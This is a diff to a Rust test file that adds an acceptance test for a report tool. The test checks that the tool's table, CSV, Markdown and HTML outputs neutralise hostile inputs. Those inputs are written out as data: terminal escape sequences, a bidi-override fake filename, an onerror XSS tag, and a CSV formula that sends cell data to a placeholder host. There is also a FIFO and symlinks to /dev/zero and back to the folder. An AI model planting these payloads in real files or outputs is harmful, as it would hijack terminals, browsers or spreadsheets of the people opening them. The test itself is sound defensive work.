@@ -166,6 +166,117 @@ fn fleet_csv_cells_never_start_a_formula() {
     }
 }
 
+/// The hostile folder of `a_folder_of_hostile_reports_is_read_safely_in_every_format`.
+#[cfg(unix)]
+fn hostile_folder() -> tempfile::TempDir {
+    let (_, template) = run_json(&mut crate::util::check_cmd(&[
+        "--role",
+        "agent",
+        "--server",
+        "127.0.0.1",
+        "--timeout",
+        "300ms",
+    ]));
+    let dir = tempfile::tempdir().unwrap();
+    let write = |name: &str, report: &Value| {
+        std::fs::write(dir.path().join(name), serde_json::to_vec(report).unwrap()).unwrap();
+    };
+    let mut escapes = template.clone();
+    escapes["hostname"] = json!("\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{1b}[31mpc\u{202e}gnp.exe");
+    for c in escapes["checks"].as_array_mut().unwrap() {
+        c["verdict"] = json!("fail");
+        c["reason"] =
+            json!("<img src=x onerror=alert(1)> [click](http://x/) ![i](http://x/i.png)\rline");
+    }
+    write("escapes.json", &escapes);
+    let mut formula = template.clone();
+    formula["hostname"] = json!("=HYPERLINK(\"http://x/?\"&A1,\"click\")");
+    write("formula.json", &formula);
+    let mut many = template.clone();
+    let check = many["checks"][0].clone();
+    many["checks"] = Value::Array(
+        (0..40_000)
+            .map(|i| {
+                let mut c = check.clone();
+                c["id"] = json!(format!("c{i}"));
+                c
+            })
+            .collect(),
+    );
+    many["schema"] = json!(2);
+    write("many.json", &many);
+    write(
+        "wrong-types.json",
+        &json!({"schema": 2, "tool": "automate-ports", "hostname": ["x"], "checks": [{"id": 5, "verdict": {}}]}),
+    );
+    let fifo = dir.path().join("fifo.json");
+    assert!(Command::new("mkfifo")
+        .arg(&fifo)
+        .status()
+        .unwrap()
+        .success());
+    std::os::unix::fs::symlink("/dev/zero", dir.path().join("zero.json")).unwrap();
+    std::os::unix::fs::symlink(dir.path(), dir.path().join("loop")).unwrap();
+
+    dir
+}
+
+/// Acceptance of issue 24: a folder of hostile reports (terminal escapes and a bidi override in
+/// the hostname, Markdown and HTML in the reason, a formula, a FIFO, a link to /dev/zero, a link
+/// back to the folder, 40,000 checks in one report, schema 2 with wrong types): every format
+/// finishes in seconds, carries nothing active from the files, and lists the bad files with why.
+#[cfg(unix)]
+#[test]
+fn a_folder_of_hostile_reports_is_read_safely_in_every_format() {
+    let dir = hostile_folder();
+    for format in ["table", "csv", "markdown", "html"] {
+        let started = std::time::Instant::now();
+        let out = bin()
+            .args(["--color", "always", "fleet", "--format", format])
+            .arg(dir.path())
+            .timeout(std::time::Duration::from_secs(60))
+            .output()
+            .unwrap();
+        let took = started.elapsed();
+        // A CSV lists the files that were not reports on standard error.
+        let text =
+            String::from_utf8_lossy(&[out.stdout.as_slice(), &out.stderr].concat()).into_owned();
+        assert!(took.as_secs() < 10, "{format}: {took:?}");
+        assert_eq!(
+            out.status.code(),
+            Some(1),
+            "{format}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        for active in ["\u{1b}]", "\u{1b}[2J", "\u{7}", "\u{202e}", "\r"] {
+            assert!(!text.contains(active), "{format}: {active:?} in {text}");
+        }
+        for why in ["fifo.json", "zero.json", "loop", "wrong-types.json"] {
+            assert!(text.contains(why), "{format}: {why} not listed: {text}");
+        }
+        assert!(text.contains("not a regular file"), "{format}: {text}");
+        assert!(text.contains("a link: not followed"), "{format}: {text}");
+        match format {
+            "csv" => {
+                for line in text.lines() {
+                    for cell in line.split(',') {
+                        let cell = cell.trim_start_matches('"');
+                        assert!(!cell.starts_with(['=', '+', '-', '@', '\t']), "{cell:?}");
+                    }
+                }
+            }
+            "markdown" => {
+                // The reason's tag and links are there as text, escaped.
+                assert!(text.contains("\\<img src=x"), "{text}");
+                assert_eq!(text.matches("<img").count(), text.matches("\\<img").count());
+                assert!(!text.contains("[click]") && !text.contains("[i]"), "{text}");
+            }
+            "html" => assert!(!text.contains("<img"), "{text}"),
+            _ => {}
+        }
+    }
+}
+
 /// Headless Chromium, or why not (CI installs it; AUTOMATE_PORTS_REQUIRE_LAB makes a missing
 /// one a failure).
 fn chromium() -> Option<&'static str> {
